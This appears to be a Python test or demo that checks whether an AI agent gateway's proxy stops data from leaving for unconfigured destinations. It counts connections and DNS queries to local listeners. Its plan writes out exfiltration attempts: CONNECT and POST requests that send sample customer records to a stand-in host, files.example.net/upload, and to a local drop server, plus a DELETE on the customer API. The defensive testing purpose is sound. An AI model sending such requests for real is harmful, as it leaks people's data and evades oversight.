"""An unexpected destination: what runs beside the agent tries to take data to where nobody said that it may go."""

import json
import socket
from dataclasses import dataclass
from typing import Self

from examples.demo.agent_runtime import Runtime
from examples.demo.calls import Answer, Call, answer_lines, ask, tell
from examples.demo.gateway import Gateway
from examples.demo.workplace import Workplace

WHO = "agent's host"
UNKNOWN_HOST = "files.example.net"
LOOT = json.dumps({"customers": [{"id": "1042"}]})


@dataclass(frozen=True, slots=True)
class Outside:
    """What came of it. refused: of what nobody configured; known: a read of a target by the same proxy; blocked: a
    deletion there; connections: how many the server got that nobody configured; questions: how many names the gateway
    asked for; heard: whether that server and the name server hear at all."""

    refused: list[Answer]
    known: Answer
    blocked: Answer
    connections: int
    questions: int
    heard: bool


class Drop:
    """A server that nobody configured, on this machine. It counts who connects, and answers nobody."""

    def __enter__(self) -> Self:
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=16)
        self._socket.settimeout(5.0)
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def count(self) -> tuple[int, bool]:
        """How many connected until now, and whether a connection of our own, the last one, was among what it heard."""
        others = 0
        with socket.create_connection(self._socket.getsockname(), timeout=5.0) as own:
            while others < 100:
                try:
                    connection, peer = self._socket.accept()
                except TimeoutError:
                    return others, False
                connection.close()
                if peer == own.getsockname():
                    return others, True
                others += 1
        return others, False


class Names:
    """The name server that the gateway is told to ask. It counts questions, and answers none."""

    def __enter__(self) -> Self:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self._socket.settimeout(5.0)
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def count(self) -> tuple[int, bool]:
        """How many questions came since the last count, and whether one of our own was heard after them."""
        others, own = 0, b"our own"
        self._socket.sendto(own, self._socket.getsockname())
        try:
            while self._socket.recvfrom(2048)[0] != own:
                others += 1
        except TimeoutError:
            return others, False
        return others, True


def take_data_out(place: Workplace, runtime: Runtime, gateway: Gateway, names: Names) -> Outside:
    """Try it through the gateway's forward proxy, with the agent's own token. Raises DemoFailed."""
    with Drop() as drop:
        plan = [
            ("CONNECT", f"{UNKNOWN_HOST}:443", None),
            ("POST", f"http://{UNKNOWN_HOST}/upload", LOOT),
            ("POST", f"http://{drop.address}/upload", LOOT),
            ("GET", f"http://{gateway.at.customer_api}/customers/1043", None),
            ("DELETE", f"http://{gateway.at.customer_api}/customers", None),
        ]
        answers = ask(
            runtime,
            [
                Call(WHO, gateway.at.proxy, method, target, place.agent_token, "Proxy-Authorization", body=body)
                for method, target, body in plan
            ],
        )
        for answer in answers:
            tell(WHO, answer_lines(answer))
        *refused, known, blocked = answers
        (connections, heard), (questions, listened) = drop.count(), names.count()
        return Outside(refused, known, blocked, connections, questions, heard and listened)
